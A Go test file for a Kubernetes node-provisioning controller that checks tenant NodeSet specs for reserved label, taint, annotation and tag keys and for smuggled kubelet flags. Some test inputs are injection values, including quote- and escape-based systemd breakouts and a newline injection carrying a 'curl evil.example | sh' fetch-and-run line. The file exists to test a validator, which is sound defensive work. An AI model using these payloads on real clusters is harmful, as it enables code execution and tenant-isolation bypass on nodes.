package resolve

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	nodesetv1alpha1 "nodeset.dev/nodeset/apis/nodeset/v1alpha1"
)

func TestReservedForTenants(t *testing.T) {
	for key, reserved := range map[string]bool{
		"tier":                                  false,
		"example.com/pool":                      false,
		"nodeset.dev/nodeset":                   true,
		"nodeset.dev/nodeset-namespace":         true,
		"sub.nodeset.dev/x":                     true,
		"node-role.kubernetes.io/control-plane": true,
		"node-restriction.kubernetes.io/pci":    true,
		"kubernetes.io/hostname":                true,
		"topology.kubernetes.io/zone":           true,
		"node.kubernetes.io/instance-type":      true,
		"x.k8s.io/y":                            true,
		"notkubernetes.io/x":                    false,
		"eks.amazonaws.com/capacityType":        true,
		"eks.amazonaws.com/nodegroup":           true,
		"topology.ebs.csi.aws.com/zone":         true,
		"example.com/amazonaws.com":             false,
		"notamazonaws.com/x":                    false,
	} {
		assert.Equal(t, reserved, ReservedForTenants(key) != "", key)
	}
}

func TestTenantErrors(t *testing.T) {
	set := func(mutate func(*nodesetv1alpha1.NodeSet)) *nodesetv1alpha1.NodeSet {
		s := &nodesetv1alpha1.NodeSet{ObjectMeta: metav1.ObjectMeta{Name: "web", Namespace: "team-a"}}
		mutate(s)
		return s
	}
	tests := []struct {
		name string
		set  *nodesetv1alpha1.NodeSet
		want []string // substrings of the one problem expected, "" for none
	}{
		{"a plain template", set(func(s *nodesetv1alpha1.NodeSet) {
			s.Spec.Template.Labels = map[string]string{"tier": "web"}
			s.Spec.Template.Taints = []nodesetv1alpha1.Taint{{Key: "dedicated", Value: "web", Effect: "NoSchedule"}}
		}), nil},
		{"a name too long for the label value", set(func(s *nodesetv1alpha1.NodeSet) { s.Name = strings.Repeat("a", 64) }),
			[]string{"metadata.name", "nodeset.dev/nodeset", "63"}},
		{"node-role label", set(func(s *nodesetv1alpha1.NodeSet) {
			s.Spec.Template.Labels = map[string]string{"node-role.kubernetes.io/control-plane": ""}
		}), []string{"spec.template.labels", "node-role.kubernetes.io/control-plane", "reserved for the cluster admin"}},
		{"node-restriction taint", set(func(s *nodesetv1alpha1.NodeSet) {
			s.Spec.Template.Taints = []nodesetv1alpha1.Taint{{Key: "node-restriction.kubernetes.io/x", Effect: "NoSchedule"}}
		}), []string{"spec.template.taints[0].key", "reserved for the cluster admin"}},
		{"a taint key with a prefix over 253", set(func(s *nodesetv1alpha1.NodeSet) {
			s.Spec.Template.Taints = []nodesetv1alpha1.Taint{{Key: strings.Repeat("a", 254) + "/x", Effect: "NoSchedule"}}
		}), []string{"spec.template.taints[0].key", "253"}},
		{"annotations over 256 KiB", set(func(s *nodesetv1alpha1.NodeSet) {
			s.Spec.Template.Annotations = map[string]string{"a": strings.Repeat("x", 300*1024)}
		}), []string{"spec.template.annotations", "262144"}},
		{"a nodeset label through the simulated kubelet", set(func(s *nodesetv1alpha1.NodeSet) {
			s.Spec.Simulated = &nodesetv1alpha1.SimulatedMachine{Labels: map[string]string{"nodeset.dev/nodeset": "theirs"}}
		}), []string{"spec.simulated.labels", "nodeset.dev/nodeset", "reserved for nodeset"}},
		{"a spot label a tenant would lie with", set(func(s *nodesetv1alpha1.NodeSet) {
			s.Spec.Template.Labels = map[string]string{"eks.amazonaws.com/capacityType": "ON_DEMAND"}
		}), []string{"spec.template.labels", "eks.amazonaws.com/capacityType", "state what the cloud made"}},
		{"a driver's own tag on an Auto Scaling group", set(func(s *nodesetv1alpha1.NodeSet) {
			s.Spec.EKSAutoscalingGroup = &nodesetv1alpha1.EKSAutoscalingGroup{Tags: map[string]string{"nodeset.dev/former-regions": "us-west-2"}}
		}), []string{"spec.eksAutoscalingGroup.tags", "nodeset.dev/former-regions", "reserved for nodeset"}},
		{"a driver's own tag on a node group", set(func(s *nodesetv1alpha1.NodeSet) {
			s.Spec.EKSManagedNodeGroup = &nodesetv1alpha1.EKSManagedNodeGroup{Tags: map[string]string{"nodeset.dev/template-hash": "x"}}
		}), []string{"spec.eksManagedNodeGroup.tags", "nodeset.dev/template-hash", "reserved for nodeset"}},
		{"a hostname label through an EKS node group", set(func(s *nodesetv1alpha1.NodeSet) {
			s.Spec.EKSManagedNodeGroup = &nodesetv1alpha1.EKSManagedNodeGroup{Labels: map[string]string{"kubernetes.io/hostname": "x"}}
		}), []string{"spec.eksManagedNodeGroup.labels", "kubernetes.io/hostname"}},
		{"a reserved taint through an EKS node group", set(func(s *nodesetv1alpha1.NodeSet) {
			s.Spec.EKSManagedNodeGroup = &nodesetv1alpha1.EKSManagedNodeGroup{Taints: []nodesetv1alpha1.ManagedTaint{{Key: "nodeset.dev/tenant", Effect: "NO_SCHEDULE"}}}
		}), []string{"spec.eksManagedNodeGroup.taints[0].key", "reserved for nodeset"}},
		{"an annotation a driver of nodeset reads", set(func(s *nodesetv1alpha1.NodeSet) {
			s.Spec.Template.Annotations = map[string]string{"simulated.nodeset.dev/unreachable": "yes"}
		}), []string{"spec.template.annotations", "simulated.nodeset.dev/unreachable", "reserved for nodeset"}},
		{"an annotation of the cluster's domain", set(func(s *nodesetv1alpha1.NodeSet) {
			s.Spec.Template.Annotations = map[string]string{"cluster-autoscaler.kubernetes.io/scale-down-disabled": "true"}
		}), nil},
		{"node labels through kubelet flags", set(func(s *nodesetv1alpha1.NodeSet) {
			s.Spec.EKSAutoscalingGroup = &nodesetv1alpha1.EKSAutoscalingGroup{Bootstrap: &nodesetv1alpha1.EKSBootstrap{
				KubeletExtraArgs: []string{"--max-pods=20", "--node-labels=nodeset.dev/nodeset=x"}}}
		}), []string{"spec.eksAutoscalingGroup.bootstrap.kubeletExtraArgs[1]", "--node-labels", "spec.template"}},
		{"node labels through an underscore spelling", set(func(s *nodesetv1alpha1.NodeSet) {
			s.Spec.EKSAutoscalingGroup = &nodesetv1alpha1.EKSAutoscalingGroup{Bootstrap: &nodesetv1alpha1.EKSBootstrap{
				KubeletExtraArgs: []string{"--node_labels=nodeset.dev/tenant=victim"}}}
		}), []string{"kubeletExtraArgs[0]", "--node-labels"}},
		{"taints through an underscore spelling and one dash", set(func(s *nodesetv1alpha1.NodeSet) {
			s.Spec.EKSAutoscalingGroup = &nodesetv1alpha1.EKSAutoscalingGroup{Bootstrap: &nodesetv1alpha1.EKSBootstrap{
				KubeletExtraArgs: []string{"-register_with_taints=example.com/t=x:NoSchedule"}}}
		}), []string{"kubeletExtraArgs[0]", "--register-with-taints"}},
		{"a flag hidden in another argument", set(func(s *nodesetv1alpha1.NodeSet) {
			s.Spec.EKSAutoscalingGroup = &nodesetv1alpha1.EKSAutoscalingGroup{Bootstrap: &nodesetv1alpha1.EKSBootstrap{
				KubeletExtraArgs: []string{"--v=2 --node-labels=nodeset.dev/tenant=victim"}}}
		}), []string{"kubeletExtraArgs[0]", "--node-labels"}},
		// The script bootstrap hands the arguments to the EKS bootstrap.sh,
		// which writes them into a systemd drop-in as
		// Environment='KUBELET_EXTRA_ARGS=<args>': a quote, a backslash
		// escape or a new line there sets the variable again with flags of
		// the tenant's choosing, or adds lines to the kubelet's unit.
		{"a flag after a quote that ends the systemd value", set(func(s *nodesetv1alpha1.NodeSet) {
			s.Spec.EKSAutoscalingGroup = &nodesetv1alpha1.EKSAutoscalingGroup{Bootstrap: &nodesetv1alpha1.EKSBootstrap{
				KubeletExtraArgs: []string{"--v=2' 'KUBELET_EXTRA_ARGS=--node-labels=nodeset.dev/tenant=victim"}}}
		}), []string{"kubeletExtraArgs[0]", "quotes"}},
		{"a flag after a new line in the systemd drop-in", set(func(s *nodesetv1alpha1.NodeSet) {
			s.Spec.EKSAutoscalingGroup = &nodesetv1alpha1.EKSAutoscalingGroup{Bootstrap: &nodesetv1alpha1.EKSBootstrap{
				KubeletExtraArgs: []string{"--v=2\nExecStartPre=/bin/sh -c 'curl evil.example | sh'"}}}
		}), []string{"kubeletExtraArgs[0]", "control characters"}},
		{"a space spelt as a systemd escape", set(func(s *nodesetv1alpha1.NodeSet) {
			s.Spec.EKSAutoscalingGroup = &nodesetv1alpha1.EKSAutoscalingGroup{Bootstrap: &nodesetv1alpha1.EKSBootstrap{
				KubeletExtraArgs: []string{`--v=2\x20--node-labels=nodeset.dev/tenant=victim`}}}
		}), []string{"kubeletExtraArgs[0]", "backslashes"}},
		{"other kubelet flags pass", set(func(s *nodesetv1alpha1.NodeSet) {
			s.Spec.EKSAutoscalingGroup = &nodesetv1alpha1.EKSAutoscalingGroup{Bootstrap: &nodesetv1alpha1.EKSBootstrap{
				KubeletExtraArgs: []string{"--max-pods=20",
					"--eviction-hard=memory.available<500Mi,nodefs.available<10%", "--system-reserved=cpu=250m,memory=0.2Gi"}}}
		}), nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			problems := TenantErrors(tt.set)
			if tt.want == nil {
				assert.Empty(t, problems)
				return
			}
			if assert.Len(t, problems, 1, "%v", problems) {
				for _, want := range tt.want {
					assert.Contains(t, problems[0], want)
				}
			}
		})
	}
}

func TestTemplateConflicts(t *testing.T) {
	class := &nodesetv1alpha1.NodeClass{ObjectMeta: metav1.ObjectMeta{Name: "spot"}}
	class.Spec.NodeTemplate = nodesetv1alpha1.NodeTemplate{
		Labels:      map[string]string{"lifecycle": "spot"},
		Annotations: map[string]string{"example.com/owner": "platform"},
		Taints:      []nodesetv1alpha1.Taint{{Key: "example.com/spot", Value: "true", Effect: "NoSchedule"}},
	}
	tests := []struct {
		name     string
		template nodesetv1alpha1.NodeTemplate
		want     []string // substrings of the one problem expected; nil for none
	}{
		{"adds its own keys", nodesetv1alpha1.NodeTemplate{
			Labels: map[string]string{"tier": "web"}, Annotations: map[string]string{"a": "b"},
			Taints: []nodesetv1alpha1.Taint{{Key: "dedicated", Value: "web", Effect: "NoSchedule"}},
		}, nil},
		{"repeats the class's values", class.Spec.NodeTemplate, nil},
		{"a stricter effect of the class's taint key", nodesetv1alpha1.NodeTemplate{
			Taints: []nodesetv1alpha1.Taint{{Key: "example.com/spot", Value: "false", Effect: "NoExecute"}},
		}, nil},
		{"changes a label", nodesetv1alpha1.NodeTemplate{Labels: map[string]string{"lifecycle": "on-demand"}},
			[]string{`spec.template.labels["lifecycle"] "on-demand"`, `NodeClass spot sets it to "spot"`}},
		{"changes an annotation", nodesetv1alpha1.NodeTemplate{Annotations: map[string]string{"example.com/owner": "me"}},
			[]string{`spec.template.annotations["example.com/owner"]`, `"platform"`}},
		{"changes a taint's value", nodesetv1alpha1.NodeTemplate{
			Taints: []nodesetv1alpha1.Taint{{Key: "example.com/spot", Value: "false", Effect: "NoSchedule"}},
		}, []string{"spec.template.taints[0] example.com/spot=false:NoSchedule", "example.com/spot=true:NoSchedule"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			set := &nodesetv1alpha1.NodeSet{ObjectMeta: metav1.ObjectMeta{Name: "web", Namespace: "team-a"}}
			set.Spec.Template = tt.template
			got := TemplateConflicts(class, set)
			if tt.want == nil {
				assert.Empty(t, got)
				return
			}
			if assert.Len(t, got, 1) {
				for _, want := range tt.want {
					assert.Contains(t, got[0], want)
				}
			}
		})
	}
}
